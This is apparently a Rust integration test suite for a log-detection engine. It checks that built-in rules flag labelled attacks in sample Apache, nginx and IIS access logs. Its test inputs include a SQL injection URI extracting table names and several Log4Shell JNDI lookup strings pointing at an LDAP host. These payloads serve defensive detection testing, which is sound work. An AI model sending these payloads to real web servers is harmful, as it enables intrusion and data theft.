//! Web access logs end to end: sample logs of our own in every format (Apache combined,
//! nginx common, IIS W3C whose `#Fields:` changes midway, nginx JSON) with labelled attacks
//! among ordinary traffic and scanner noise, beside JSON telemetry; the built-in pack must
//! raise exactly the labelled alerts (`expected-alerts.tsv`), in any chunking.

use std::collections::BTreeSet;
use std::path::{Path, PathBuf};
use std::sync::Arc;

use tripline_engine::{Alert, RuleSet, ScanConfig, ScanStats, Scanner};

fn dir() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/access")
}

/// The sample inputs, relative to `logs/`, sorted.
fn inputs() -> Vec<String> {
    let mut files = Vec::new();
    for host in std::fs::read_dir(dir().join("logs")).unwrap() {
        let host = host.unwrap().path();
        for file in std::fs::read_dir(&host).unwrap() {
            let file = file.unwrap().path();
            files.push(
                file.strip_prefix(dir().join("logs"))
                    .unwrap()
                    .display()
                    .to_string(),
            );
        }
    }
    files.sort();
    files
}

/// (file, line, rule) of every labelled attack.
fn expected() -> BTreeSet<(String, u64, String)> {
    let text = std::fs::read_to_string(dir().join("expected-alerts.tsv")).unwrap();
    text.lines()
        .skip(1)
        .map(|row| {
            let cols: Vec<&str> = row.split('\t').collect();
            (
                cols[0].to_owned(),
                cols[1].parse().unwrap(),
                cols[2].to_owned(),
            )
        })
        .collect()
}

/// Scans every sample input with the built-in pack, fed in pieces of `chunk` bytes; each
/// input's host is its directory's name, as `--host-from path` does.
fn scan(chunk: usize) -> (Vec<Alert>, ScanStats) {
    scan_with(chunk, ScanConfig::default(), false)
}

/// [`scan`] with `config`, through `feed` or `feed_owned`.
fn scan_with(chunk: usize, config: ScanConfig, owned: bool) -> (Vec<Alert>, ScanStats) {
    let rules = Arc::new(RuleSet::builtin());
    let mut scanner = Scanner::new(rules, config);
    let mut alerts = Vec::new();
    for name in inputs() {
        let bytes = std::fs::read(dir().join("logs").join(&name)).unwrap();
        let host = name.split('/').next().unwrap().to_owned();
        scanner.begin_source(name, &mut alerts);
        scanner.set_source_host(Some(Arc::from(host)));
        for piece in bytes.chunks(chunk) {
            if owned {
                let _spare = scanner.feed_owned(piece.to_vec(), &mut alerts);
            } else {
                scanner.feed(piece, &mut alerts);
            }
        }
    }
    scanner.finish(&mut alerts);
    (alerts, scanner.stats().clone())
}

/// W3C lines read by the `#Fields:` in force even when the directive and the lines are
/// parsed on different worker threads: every thread count, prefilter setting and
/// chunking gives the same alerts and counts.
#[test]
fn every_scan_path_reads_the_sample_logs_alike() {
    let reference = scan(usize::MAX);
    assert!(reference.1.lines_header >= 4, "{:?}", reference.1);
    for (what, config, owned) in super::every_path() {
        for chunk in [usize::MAX, 1000, 97, 7] {
            let other = scan_with(chunk, config, owned);
            super::assert_same_scan(&reference, &other, &format!("{what}, chunk {chunk}"));
        }
    }
}

fn triggers(alerts: &[Alert]) -> BTreeSet<(String, u64, String)> {
    alerts
        .iter()
        .map(|a| {
            let source = &a.events[0].source;
            (
                source.file.to_string(),
                source.line,
                a.rule.label().to_owned(),
            )
        })
        .collect()
}

#[test]
fn sample_logs_raise_exactly_the_labelled_alerts() {
    let expected = expected();
    for chunk in [usize::MAX, 4096, 7, 1] {
        let (alerts, stats) = scan(chunk);
        let got = triggers(&alerts);
        let missed: Vec<_> = expected.difference(&got).collect();
        let false_positives: Vec<_> = got.difference(&expected).collect();
        assert!(
            missed.is_empty() && false_positives.is_empty(),
            "chunk {chunk}: missed {missed:#?}, false positives {false_positives:#?}"
        );
        assert_eq!(
            alerts.len(),
            expected.len(),
            "one alert per labelled attack"
        );
        assert!(stats.balanced(), "{stats:?}");
        assert_eq!(stats.lines_rejected, 0, "{stats:?}");
        // Two W3C header blocks of four directives.
        assert_eq!(stats.lines_header, 8);
    }
    // Events are counted as parsed: with the prefilter off, every one. (Access-log lines
    // are never skipped: they are not JSON.)
    let every_line = ScanConfig {
        prefilter: false,
        ..ScanConfig::default()
    };
    let (_, stats) = scan_with(usize::MAX, every_line, false);
    let json = stats.to_json(&RuleSet::builtin());
    assert_eq!(json["events"]["access_log"]["web_request"], 71);
    assert_eq!(json["events"]["flat"]["process_start"], 3);
}

#[test]
fn alerts_carry_the_source_and_the_request() {
    let (alerts, _) = scan(usize::MAX);
    let find = |file: &str, line: u64| {
        alerts
            .iter()
            .find(|a| *a.events[0].source.file == *file && a.events[0].source.line == line)
            .map(|a| serde_json::to_value(a).unwrap())
            .unwrap_or_else(|| panic!("no alert at {file}:{line}"))
    };
    // Apache combined: no server name in the log, so the input's host.
    let a = find("web01/access.log", 26);
    assert_eq!(a["rule"]["name"], "access_log_sql_injection");
    assert_eq!(a["evidence"], "Union Select");
    assert_eq!(a["host"], "web01");
    assert_eq!(a["@timestamp"], "2026-11-20T09:00:24Z");
    let e = &a["events"][0];
    assert_eq!(e["schema"], "access_log");
    assert_eq!(e["kind"], "web_request");
    assert_eq!(e["format"], "combined");
    assert_eq!(e["request"]["client_ip"], "203.0.113.72");
    assert_eq!(e["request"]["method"], "GET");
    assert_eq!(
        e["request"]["uri"],
        "/item.php?id=-1%20/*!50000union*/%20/*!50000select*/%201,2,group_concat(table_name)"
    );
    assert_eq!(e["request"]["status"], "200");
    // W3C after the header change: the server's own name wins over the input's.
    let a = find("iis01/u_ex261120.log", 18);
    assert_eq!(a["host"], "IIS01");
    assert_eq!(a["events"][0]["format"], "w3c");
    assert_eq!(a["events"][0]["request"]["host"], "www.corp.example");
    // Before it, no s-computername: the input's host.
    assert_eq!(find("iis01/u_ex261120.log", 10)["host"], "iis01");
    let a = find("nginx01/access.json", 4);
    assert_eq!(a["host"], "nginx-01");
    assert_eq!(a["evidence"], "Obfuscated JNDI Lookup");
    assert_eq!(a["events"][0]["format"], "nginx_json");
}

#[test]
fn bad_access_log_lines_are_counted_and_the_rest_scanned() {
    let rules = Arc::new(RuleSet::builtin());
    let mut scanner = Scanner::new(rules.clone(), ScanConfig::default());
    let mut alerts: Vec<Alert> = Vec::new();
    let input = [
        r#"203.0.113.66 - - [11/Dec/2021:02:14:05 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ldap://x/a}""#,
        r#"203.0.113.66 - - [11/Dec/2021:02:14:05 +0000] "GET / HTTP/1.1" 200 612 "-" "${jndi:ld"#,
        r#"203.0.113.66 - - [31/Nov/2021:02:14:05 +0000] "GET /?${jndi:ldap://x/a} HTTP/1.1" 200 612"#,
        "just some text",
        "2021-12-12 10:00:00 10.0.0.5 GET /?${jndi:ldap://x/a} - 443",
        "#Fields: date time c-ip cs-method cs-uri-stem sc-status",
        // Once a header is in force, a line that is not CLF is a W3C line.
        "2021-12-12 10:00:00 10.0.0.5 GET /${jndi:ldap://x/a}",
        "2021-12-12 10:00:00 10.0.0.5 GET /${jndi:ldap://x/a} 200",
    ]
    .join("\n");
    scanner.begin_source("mixed.log", &mut alerts);
    scanner.feed(input.as_bytes(), &mut alerts);
    scanner.finish(&mut alerts);
    let lines: Vec<u64> = alerts.iter().map(|a| a.events[0].source.line).collect();
    assert_eq!(lines, [1, 8]);
    let stats = scanner.stats();
    assert!(stats.balanced());
    assert_eq!((stats.lines_evaluated, stats.lines_header), (2, 1));
    let json = stats.to_json(&rules);
    let rejected = &json["rejected"];
    assert_eq!(rejected["access_log_truncated"], 1);
    assert_eq!(rejected["access_log_bad_time"], 1);
    assert_eq!(rejected["w3c_no_fields"], 1);
    assert_eq!(rejected["w3c_field_count"], 1);
    assert_eq!(rejected["unknown_line_format"], 1);
    assert_eq!(json["lines"]["headers"], 1);
}

/// The SQL injection rule matches with one combined expression per field, and labels
/// alerts with its parts: both must agree on every sample line and example.
#[test]
fn sql_injection_parts_agree_with_the_combined_pattern() {
    let (_, text) = tripline_engine::builtin_files()
        .iter()
        .find(|(name, _)| *name == "access_log_sql_injection.yml")
        .unwrap();
    let by_parts = text.replace("    condition: sqli\n", "    condition: 1 of part_*\n");
    assert_ne!(&by_parts, text);
    let lines_matched = |yaml: &str| {
        let mut builder = tripline_engine::RuleSetBuilder::new();
        builder.add_sigma_yaml("sqli.yml", yaml);
        let (rules, errors) = builder.build();
        assert!(errors.is_empty(), "{errors:?}");
        let rules = Arc::new(rules);
        let mut matched = BTreeSet::new();
        let mut inputs: Vec<(String, Vec<u8>)> = inputs()
            .into_iter()
            .map(|name| {
                let bytes = std::fs::read(dir().join("logs").join(&name)).unwrap();
                (name, bytes)
            })
            .collect();
        // Every example as an input of its own.
        let doc: yaml_serde::Value = yaml_serde::from_str(text).unwrap();
        for (i, example) in doc["tripline.examples"]
            .as_sequence()
            .unwrap()
            .iter()
            .enumerate()
        {
            let mut bytes = Vec::new();
            let header = example.get("header").into_iter();
            let events = match example.get("events") {
                Some(list) => list.as_sequence().unwrap().iter().collect::<Vec<_>>(),
                None => vec![&example["event"]],
            };
            for line in header.chain(events) {
                bytes.extend_from_slice(
                    tripline_engine::examples::example_line(line)
                        .unwrap()
                        .as_bytes(),
                );
                bytes.push(b'\n');
            }
            inputs.push((format!("example {i}"), bytes));
        }
        for (name, bytes) in inputs {
            let mut scanner = Scanner::new(rules.clone(), ScanConfig::default());
            let mut alerts: Vec<Alert> = Vec::new();
            scanner.begin_source(name.clone(), &mut alerts);
            scanner.feed(&bytes, &mut alerts);
            scanner.finish(&mut alerts);
            for alert in alerts {
                assert_ne!(alert.evidence.as_deref(), Some("SQL Injection"), "{name}");
                matched.insert((name.clone(), alert.events[0].source.line));
            }
        }
        matched
    };
    let combined = lines_matched(text);
    assert!(combined.len() > 20, "{combined:?}");
    assert_eq!(combined, lines_matched(&by_parts));
}
